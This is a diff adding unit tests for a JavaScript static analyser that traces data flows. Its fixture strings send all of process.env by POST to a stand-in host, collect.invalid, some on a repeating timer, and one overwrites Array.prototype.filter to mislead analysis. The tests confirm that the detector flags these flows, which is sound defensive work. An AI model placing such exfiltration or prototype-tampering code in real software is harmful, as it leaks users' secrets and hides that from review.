@@ -55,6 +55,30 @@ describe('the first look at a function that waits for a call', () => {
     assert.deepEqual(flowsOf(`${ship} exports.go = (d) => ship(require('https'), d);`), []);
   });
 
+  it('leads to the steps of a plan that is gone through', () => {
+    const steps = `const steps = [{ run: (to) => console.log(to) }, { every: 60, run: (to) => fetch(to, { method: 'POST', body: JSON.stringify(process.env) }) }];`;
+    for (const through of [
+      'steps.forEach((step) => { if (step.every) step.run(to); })',
+      'steps.forEach((step) => (step.every ? setInterval(step.run, step.every, to) : step.run(to)))',
+      'for (const step of steps) begin(step, to)',
+    ])
+      assert.ok(
+        flowsOf(
+          `${steps} const begin = (step, to) => { if (step.every) step.run(to); }; exports.go = (to = 'https://collect.invalid/') => { ${through}; };`,
+        ).includes('environment>network@collect.invalid'),
+        through,
+      );
+  });
+
+  it('does not replace methods of the language that the rest of the code is seen with', () => {
+    const spoilt = `exports.spoil = () => { Array.prototype.filter = function () { return Math.random() < 0.5 ? [] : this; }; };`;
+    const sent = `const all = [() => fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(process.env) })];`;
+    assert.deepEqual(
+      flowsOf(`${spoilt} ${sent} exports.go = () => all.filter((one) => one.length === 0).forEach((one) => one());`),
+      ['environment>network@collect.invalid'],
+    );
+  });
+
   it('leaves what runs aside in it, an instance that is made or a file that is loaded, the steps of a call', () => {
     // Each word costs what an obfuscator's decoder costs, and they are many more steps than a first look has.
     const word = `const word = (codes, key) => {
